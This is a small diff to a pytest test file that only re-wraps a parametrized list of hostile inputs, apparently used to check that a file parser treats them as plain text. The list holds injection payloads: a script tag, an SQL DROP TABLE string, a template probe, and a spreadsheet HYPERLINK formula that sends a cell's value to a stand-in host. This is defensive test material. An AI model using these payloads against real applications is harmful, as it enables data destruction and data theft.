@@ -591,7 +591,8 @@ class TestHostileFiles:
     @pytest.mark.parametrize(
         "words",
         ["<script>alert(1)</script>", "=HYPERLINK(\"http://x\"&A1)", "{{7*7}}",
-         "'; DROP TABLE x;--", "%s {0.__class__}", "\u202eabc", "e\u0301" * 50, "None", "nan", "a\\;b\\nc", "\\", "'=1+1",
+         "'; DROP TABLE x;--", "%s {0.__class__}", "\u202eabc", "e\u0301" * 50, "None", "nan",
+         "a\\;b\\nc", "\\", "'=1+1",
          "---", "%%html", "👨‍👩‍👧", "@SUM(1)", "-5", "012", "1E5"],
     )  # fmt: skip
     def test_words_stay_words(self, group: Path, tmp_path: Path, words: str) -> None:
